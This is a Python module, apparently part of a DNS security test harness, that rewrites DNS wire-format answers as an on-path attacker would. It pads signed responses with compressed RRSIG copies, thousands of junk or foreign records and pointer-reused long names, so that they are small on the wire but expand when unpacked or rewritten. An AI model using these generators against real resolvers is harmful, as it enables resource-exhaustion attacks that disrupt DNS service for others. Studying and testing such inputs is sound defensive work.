"""Answers that are true, and larger than anybody can like.

Everything here works on wire format: what an attacker on the path adds to a
signed answer has to be small on the wire and large wherever it is unpacked.
"""

import struct

import dns.rdatatype

T = dns.rdatatype
LIMIT = 65535


def skip_name(wire, at):
    while wire[at]:
        if wire[at] >= 0xc0:
            return at + 2
        at += wire[at] + 1
    return at + 1


def records(wire):
    """(start, type, start of rdata, end) of all, with the number of those in
    the answer."""
    questions, answers, authority, additional = struct.unpack_from(
        "!4H", wire, 4)
    at = 12
    for _ in range(questions):
        at = skip_name(wire, at) + 4
    found = []
    for _ in range(answers + authority + additional):
        start, at = at, skip_name(wire, at)
        rdtype, _, _, size = struct.unpack_from("!HHIH", wire, at)
        found.append((start, rdtype, at + 10, at + 10 + size))
        at += 10 + size
    return found, answers


def with_records(wire, more):
    """@wire with @more records at the end of its answer, as many as fit.
    Authority and additional section go, but for OPT."""
    found, answers = records(wire)
    opt = b"".join(wire[start:end] for start, rdtype, _, end in
                   found[answers:] if rdtype == T.OPT)
    end = found[answers - 1][3] if answers else skip_name(wire, 12) + 4
    added, room = [], LIMIT - end - len(opt)
    for record in more:
        room -= len(record)
        if room < 0:
            break
        added.append(record)
    return (wire[:6] + struct.pack("!HHH", answers + len(added), 0,
                                   1 if opt else 0)
            + wire[12:end] + b"".join(added) + opt)


def first_signature(wire):
    """The first 18 octets of the first RRSIG at the name that was asked for,
    and where in the question its signer stands; or None."""
    found, answers = records(wire)
    question = wire[12:skip_name(wire, 12)].lower()
    for start, rdtype, rdata, _ in found[:answers]:
        if rdtype != T.RRSIG or wire[start:start + 2] != b"\xc0\x0c":
            continue
        signer = wire[rdata + 18:skip_name(wire, rdata + 18)].lower()
        if question.endswith(signer):
            return (wire[rdata:rdata + 18],
                    12 + len(question) - len(signer))
    return None


def record(owner, rdtype, rdata, ttl=86400):
    return owner + struct.pack("!HHIH", rdtype, 1, ttl, len(rdata)) + rdata


SIGNATURE = 35  # octets of one below, here


def signatures(wire, count):
    """@count more signatures of the first set: 35 octets each here, but with
    the signer's name in full wherever the message is written again."""
    found = first_signature(wire)
    if found is None:
        return wire
    front, signer = found
    return with_records(wire, (record(
        b"\xc0\x0c", T.RRSIG, front + struct.pack("!H", 0xc000 | signer)
        + i.to_bytes(3, "big")) for i in range(count)))


def signatures_to(wire, size, written=False):
    """As many as fit into @size octets: here, or @written again."""
    found = first_signature(wire)
    if found is None:
        return wire
    each = SIGNATURE
    if written:
        each += skip_name(wire, found[1]) - found[1] - 2
    return signatures(wire, (size - len(signatures(wire, 0))) // each)


def foreign(wire, count):
    """Records of @count other names."""
    return with_records(wire, (record(
        bytes([5]) + b"j%04d" % i + b"\xc0\x0c", T.A, bytes([10, 66, 66, 66]))
        for i in range(count)))


def other_types(wire, count):
    """Records of @count other types, at the name."""
    return with_records(wire, (record(b"\xc0\x0c", 1000 + i, b"junk")
                               for i in range(count)))


def same_type(wire, count):
    """@count more records of the same set, as true as they look."""
    found, answers = records(wire)
    if not answers:
        return wire
    _, rdtype, rdata, end = found[0]
    octets = wire[rdata:end]
    return with_records(wire, (record(
        b"\xc0\x0c", rdtype, octets[:-2] + struct.pack("!H", i))
        for i in range(count)))


def padding(wire, size):
    """One record of an unknown type, of @size octets or what there is room
    for."""
    found, answers = records(wire)
    end = found[answers - 1][3] if answers else skip_name(wire, 12) + 4
    return with_records(wire, [record(
        b"\xc0\x0c", 65280, bytes(min(size, LIMIT - end - 12 - 11)))])


def long_names(wire, count):
    """NS records of a name of 240 octets that is written once."""
    name = b"".join(bytes([59]) + bytes([97 + i]) * 59 for i in range(4))
    found, answers = records(wire)
    end = found[answers - 1][3] if answers else skip_name(wire, 12) + 4
    at = end + 12
    if at + len(name) > 0x3fff:
        return wire
    pointer = struct.pack("!H", 0xc000 | at)
    first = record(b"\xc0\x0c", T.NS, name + b"\0")
    return with_records(wire, [first] + [record(
        pointer, T.NS, bytes([2]) + i.to_bytes(2, "big") + pointer)
        for i in range(count)])


KINDS = {
    "signatures-1": lambda wire: signatures(wire, 1),
    "signatures-100": lambda wire: signatures(wire, 100),
    # About as much as is read; written again, with names in full, it is more.
    "signatures-150": lambda wire: signatures(wire, 150),
    "signatures-200": lambda wire: signatures(wire, 200),
    "signatures-900": lambda wire: signatures(wire, 900),
    "signatures-1000": lambda wire: signatures(wire, 1000),
    "signatures-1850": lambda wire: signatures(wire, 1850),
    "foreign": lambda wire: foreign(wire, 2000),
    "types": lambda wire: other_types(wire, 3000),
    "same": lambda wire: same_type(wire, 1000),
    "padding": lambda wire: padding(wire, LIMIT),
    "names": lambda wire: long_names(wire, 3000),
}
